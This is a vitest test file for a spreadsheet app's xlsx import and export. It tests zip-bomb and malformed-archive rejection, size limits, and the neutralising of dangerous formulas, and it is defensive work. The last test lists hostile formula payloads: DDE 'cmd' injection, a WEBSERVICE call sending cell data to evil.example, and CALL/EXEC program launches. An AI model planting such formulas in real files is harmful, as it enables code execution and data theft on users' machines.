import { deflateRawSync } from 'node:zlib'
import ExcelJS from 'exceljs'
import { findSheetByName, formulaFromA1, getCellInput, getCellNote, getSheetGrid, isFormula, listSheets, openWorkbook, setCells } from '@samplan/domain'
import { createWorkbookMirror } from '@samplan/formulas'
import { describe, expect, it } from 'vitest'
import * as Y from 'yjs'
import { exportSheetCsv } from './csv-export'
import { findUnsafeFormula } from './formula-safety'
import { buildSheetTable } from './sheet-table'
import { exportWorkbookXlsx } from './xlsx-export'
import { applyXlsxImport } from './xlsx-apply'
import { readXlsx } from './xlsx-import'
import { createFilledVp2024Workbook } from './test-support'

/** A minimal zip writer (deflate), so tests can build hostile archives byte by byte. */
function zip(entries: Array<{ name: string; data: Buffer; declaredSize?: number }>): Buffer {
  const locals: Buffer[] = []
  const centrals: Buffer[] = []
  let offset = 0
  for (const { name, data, declaredSize } of entries) {
    const packed = deflateRawSync(data)
    const nameBytes = Buffer.from(name)
    const local = Buffer.alloc(30)
    local.writeUInt32LE(0x04034b50, 0)
    local.writeUInt16LE(20, 4)
    local.writeUInt16LE(8, 8)
    local.writeUInt32LE(packed.length, 18)
    local.writeUInt32LE(declaredSize ?? data.length, 22)
    local.writeUInt16LE(nameBytes.length, 26)
    const central = Buffer.alloc(46)
    central.writeUInt32LE(0x02014b50, 0)
    central.writeUInt16LE(20, 4)
    central.writeUInt16LE(20, 6)
    central.writeUInt16LE(8, 10)
    central.writeUInt32LE(packed.length, 20)
    central.writeUInt32LE(declaredSize ?? data.length, 24)
    central.writeUInt16LE(nameBytes.length, 28)
    central.writeUInt32LE(offset, 42)
    locals.push(local, nameBytes, packed)
    centrals.push(central, nameBytes)
    offset += 30 + nameBytes.length + packed.length
  }
  const dir = Buffer.concat(centrals)
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50, 0)
  end.writeUInt16LE(entries.length, 8)
  end.writeUInt16LE(entries.length, 10)
  end.writeUInt32LE(dir.length, 12)
  end.writeUInt32LE(offset, 16)
  return Buffer.concat([...locals, dir, end])
}

async function xlsxOf(build: (book: ExcelJS.Workbook) => void): Promise<Buffer> {
  const book = new ExcelJS.Workbook()
  build(book)
  return Buffer.from((await book.xlsx.writeBuffer()) as ArrayBuffer)
}

describe('xlsx import', () => {
  it('round-trips the VP 2024 export: same sheet names and the same computed value in every cell', async () => {
    const source = createFilledVp2024Workbook()
    const sourceMirror = createWorkbookMirror(source)
    const { buffer } = await exportWorkbookXlsx(source, sourceMirror)
    const read = await readXlsx(buffer)
    expect(read.ok).toBe(true)
    if (!read.ok) return
    const target = openWorkbook(new Y.Doc())
    target.doc.transact(() => applyXlsxImport(target, read.sheets))
    const targetMirror = createWorkbookMirror(target)
    expect(listSheets(target).map((s) => s.name)).toEqual(listSheets(source).map((s) => s.name))
    let compared = 0
    for (const sheet of listSheets(source)) {
      const imported = findSheetByName(target, sheet.name)!
      const want = sourceMirror.getSheetValues(sheet.id)
      const got = targetMirror.getSheetValues(imported.id)
      want.forEach((row, r) =>
        row.forEach((cell, c) => {
          const other = got[r]?.[c]
          if (typeof cell.value === 'number') expect(other?.value as number, `${sheet.name} ${r},${c}`).toBeCloseTo(cell.value, 9)
          else expect(other?.value ?? null, `${sheet.name} ${r},${c}`).toEqual(cell.value)
          compared++
        }),
      )
      expect(getSheetGrid(target, imported.id).rows[0]?.kind).toBe('header')
    }
    expect(compared).toBeGreaterThan(500)
    sourceMirror.destroy()
    targetMirror.destroy()
  })

  it('reads Swedish function names and renames a sheet whose name is taken, keeping references to it', async () => {
    const file = await xlsxOf((book) => {
      const ws = book.addWorksheet('Data')
      ws.getCell('A1').value = 2.5
      ws.getCell('A2').value = 4
      ws.getCell('A3').value = { formula: 'SUMMA(A1:A2)' }
      ws.getCell('A4').value = { formula: '_xlfn.IFS(A3>1,10,TRUE,0)' }
      book.addWorksheet('Ref').getCell('A1').value = { formula: "Data!A3*2+'Data'!A1" }
    })
    const read = await readXlsx(file)
    if (!read.ok) throw new Error(read.error.message)
    const workbook = openWorkbook(new Y.Doc())
    workbook.doc.transact(() => applyXlsxImport(workbook, read.sheets))
    workbook.doc.transact(() => applyXlsxImport(workbook, read.sheets))
    expect(listSheets(workbook).map((s) => s.name)).toEqual(['Data', 'Ref', 'Data (2)', 'Ref (2)'])
    const mirror = createWorkbookMirror(workbook)
    for (const [data, ref] of [['Data', 'Ref'], ['Data (2)', 'Ref (2)']] as const) {
      const values = mirror.getSheetValues(findSheetByName(workbook, data)!.id)
      expect(values.map((row) => row[0]?.value)).toEqual([2.5, 4, 6.5, 10])
      expect(mirror.getSheetValues(findSheetByName(workbook, ref)!.id)[0]?.[0]?.value).toBe(15.5)
    }
    mirror.destroy()
  })

  it('refuses a file that is not a zip', async () => {
    const read = await readXlsx(Buffer.from('Kostnader;19494,6;20684,1\r\n'))
    expect(read).toMatchObject({ ok: false, error: { code: 'not-xlsx', message: 'Filen är inte en xlsx-fil (Excel-arbetsbok).' } })
  })

  it('refuses a zip bomb by its declared ratio and one whose directory lies about sizes', async () => {
    const zeros = Buffer.alloc(30 * 1024 * 1024)
    const bomb = await readXlsx(zip([{ name: 'xl/workbook.xml', data: zeros }]))
    expect(bomb).toMatchObject({ ok: false, error: { code: 'zip-bomb' } })
    const liar = await readXlsx(zip([{ name: 'xl/workbook.xml', data: Buffer.alloc(5_000_000), declaredSize: 1000 }]))
    expect(liar).toMatchObject({ ok: false, error: { code: 'zip-bomb' } })
    const total = await readXlsx(
      zip(Array.from({ length: 12 }, (_v, i) => ({ name: `xl/f${i}.xml`, data: Buffer.alloc(4 * 1024 * 1024, i) }))),
      { maxFileBytes: 1e7, maxUncompressedBytes: 40e6, maxEntries: 100, maxRatio: 1e9, maxSheets: 5, maxRows: 10, maxColumns: 10, maxCells: 10 },
    )
    expect(total).toMatchObject({ ok: false, error: { code: 'zip-bomb' } })
  })

  it('refuses broken files: truncated, missing workbook, garbage XML', async () => {
    const good = await xlsxOf((book) => (book.addWorksheet('A').getCell('A1').value = 1))
    expect(await readXlsx(good.subarray(0, good.length - 100))).toMatchObject({ ok: false, error: { code: 'broken' } })
    expect(await readXlsx(zip([{ name: 'word/document.xml', data: Buffer.from('<w/>') }]))).toMatchObject({ ok: false, error: { code: 'not-xlsx' } })
    const garbage = zip([
      { name: '[Content_Types].xml', data: Buffer.from('<Types') },
      { name: 'xl/workbook.xml', data: Buffer.from('<<<< not xml') },
    ])
    const read = await readXlsx(garbage)
    expect(read.ok).toBe(false)
    if (!read.ok) expect(['broken', 'empty']).toContain(read.error.code)
  })

  it('refuses huge dimensions (a cell at XFD1048576) and too many cells', async () => {
    const far = await xlsxOf((book) => (book.addWorksheet('A').getCell('XFD1048576').value = 1))
    const read = await readXlsx(far)
    expect(read).toMatchObject({ ok: false, error: { code: 'too-many-cells' } })
    if (!read.ok) expect(read.error.message).toContain('rad 1048576')
    const many = await xlsxOf((book) => {
      const ws = book.addWorksheet('A')
      for (let r = 1; r <= 30; r++) for (let c = 1; c <= 10; c++) ws.getCell(r, c).value = r * c
    })
    const limits = { maxFileBytes: 1e7, maxUncompressedBytes: 40e6, maxEntries: 100, maxRatio: 200, maxSheets: 5, maxRows: 1000, maxColumns: 100, maxCells: 100 }
    expect(await readXlsx(many, limits)).toMatchObject({ ok: false, error: { code: 'too-many-cells' } })
  })

  it('neutralises formulas that reach outside the workbook: cached value or inert text, a Swedish note, never a formula', async () => {
    const hostile: Array<[string, string, ExcelJS.CellFormulaValue['result'] | undefined]> = [
      ['A1', '[1]Budget!C2', 19494.6],
      ['A2', "'C:\\Users\\eva\\[Budget.xlsx]Blad1'!A1", 'Kostnader'],
      ['A3', "'file:///C:/data/b.ods'#$Blad1.A1", undefined],
      ['A4', "cmd|' /C calc'!A0", undefined],
      ['A5', "SUM(1+1)*cmd|' /C calc'!A0", 0],
      ['A6', 'HYPERLINK("http://evil.example/?"&B1,"Klicka här")', 'Klicka här'],
      ['A7', '_xlfn.WEBSERVICE("http://evil.example/?d="&_xlfn.ENCODEURL(B1))', undefined],
      ['A8', '_xlfn.FILTERXML(B1,"//a")', undefined],
      ['A9', 'RTD("evil.progid",,"topic")', 42],
      ['A10', 'CALL("Kernel32","WinExec","JCJ","calc",0)', undefined],
      ['A11', 'REGISTER.ID("user32","MessageBoxA")', undefined],
      ['A12', 'EXEC("calc.exe")', undefined],
    ]
    const file = await xlsxOf((book) => {
      const ws = book.addWorksheet('Farligt')
      for (const [address, formula, result] of hostile) ws.getCell(address).value = result === undefined ? { formula } : { formula, result }
      ws.getCell('B1').value = 'hemligt'
      ws.getCell('B2').value = { formula: 'SUM(1,2)', result: 3 }
      ws.getCell('B3').value = "=cmd|' /C calc'!A0"
    })
    const read = await readXlsx(file)
    if (!read.ok) throw new Error(read.error.message)
    const sheet = read.sheets[0]!
    expect(sheet.neutralised.map((n) => n.cell)).toEqual(hostile.map(([address]) => address))

    const workbook = openWorkbook(new Y.Doc())
    workbook.doc.transact(() => applyXlsxImport(workbook, read.sheets))
    const info = findSheetByName(workbook, 'Farligt')!
    const grid = getSheetGrid(workbook, info.id)
    const at = (address: string) => {
      const [, col, row] = /^([A-Z]+)(\d+)$/.exec(address)!
      return { rowId: grid.rowIds[Number(row) - 1]!, colId: grid.colIds[col!.charCodeAt(0) - 65]! }
    }
    const input = (address: string) => getCellInput(workbook, info.id, at(address).rowId, at(address).colId)
    const note = (address: string) => getCellNote(workbook, info.id, at(address).rowId, at(address).colId)
    for (const [address] of hostile) expect(isFormula(input(address)), address).toBe(false)
    expect(input('A1')).toBe(19494.6)
    expect(input('A2')).toBe('Kostnader')
    expect(input('A3')).toBe("'file:///C:/data/b.ods'#$Blad1.A1")
    expect(input('A4')).toBe("cmd|' /C calc'!A0")
    expect(input('A6')).toBe('Klicka här')
    expect(input('A9')).toBe(42)
    expect(note('A1')).toBe(
      'Formeln =[1]Budget!C2 togs bort vid importen eftersom den hämtar värden från en annan arbetsbok eller fil (extern länk). Cellen har värdet som fanns sparat i filen.',
    )
    expect(note('A4')).toBe(
      "Formeln =cmd|' /C calc'!A0 togs bort vid importen eftersom den startar ett annat program (DDE). Filen hade inget sparat värde, så formeln är sparad som text.",
    )
    expect(note('A6')).toContain('funktionen HYPERLINK skapar en länk')
    expect(note('A7')).toContain('funktionen WEBSERVICE kan hämta data från eller skicka data till internet')
    expect(note('A10')).toContain('funktionen CALL kan starta program')
    // The harmless formula stays a formula, and plain text that looks like one stays text.
    expect(isFormula(input('B2'))).toBe(true)
    expect(note('B2')).toBeUndefined()
    expect(isFormula(input('B3'))).toBe(false)

    // A colleague types a HYPERLINK formula afterwards: the export writes its value, never the formula.
    setCells(workbook, info.id, [{ ...at('B4'), input: formulaFromA1(workbook, info.id, '=HYPERLINK("http://evil.example","Klicka")') }])
    const mirror = createWorkbookMirror(workbook)
    const { buffer, fallbacks } = await exportWorkbookXlsx(workbook, mirror)
    expect(fallbacks).toEqual([expect.objectContaining({ cell: 'B4', reason: 'HYPERLINK' })])
    const exported = new ExcelJS.Workbook()
    await exported.xlsx.load(buffer as unknown as ArrayBuffer)
    const written: string[] = []
    exported.getWorksheet('Farligt')!.eachRow((row) =>
      row.eachCell((cell) => {
        if (cell.type === ExcelJS.ValueType.Formula) written.push(cell.formula)
      }),
    )
    expect(written).toEqual(['SUM(1,2)'])
    expect(written.every((f) => findUnsafeFormula(f) === null)).toBe(true)
    expect(exported.getWorksheet('Farligt')!.getCell('B4').note).toMatch(/^Formeln =HYPERLINK\(.*skrevs inte ut som formel/)

    // csv: every field a spreadsheet would run (= + - @) starts with an apostrophe.
    const csv = exportSheetCsv(buildSheetTable(workbook, mirror, info.id), 'rfc4180')
    expect(csv).toContain(`,'=cmd|' /C calc'!A0\r\n`)
    for (const line of csv.split('\r\n')) for (const field of line.split(',')) expect(field, line).not.toMatch(/^"?[=+\-@]/)
    mirror.destroy()
  })
})
